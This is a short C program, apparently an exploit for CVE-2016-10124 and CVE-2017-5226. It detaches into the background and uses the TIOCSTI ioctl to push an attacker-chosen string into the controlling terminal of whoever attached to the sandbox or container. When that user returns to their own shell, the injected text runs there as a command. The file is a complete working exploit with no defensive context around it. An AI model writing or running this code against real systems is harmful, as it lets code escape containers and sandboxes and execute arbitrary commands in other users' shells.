/*
 * Types into the terminal of whoever attached it, when that one is back at his own shell (CVE-2016-10124, CVE-2017-5226).
 *
 *   push TEXT
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int terminals[] = {open("/dev/tty", O_RDWR | O_NOCTTY), 0, 1, 2};
	if (argc < 2)
		return 2;
	signal(SIGHUP, SIG_IGN);
	if (fork() != 0)
		return 0;
	usleep(500000);
	for (int n = 0; n < 4; n++) {
		const char *at = argv[1];
		while (*at && ioctl(terminals[n], TIOCSTI, at) == 0)
			at++;
		if (!*at)
			return 0;
	}
	return 1;
}
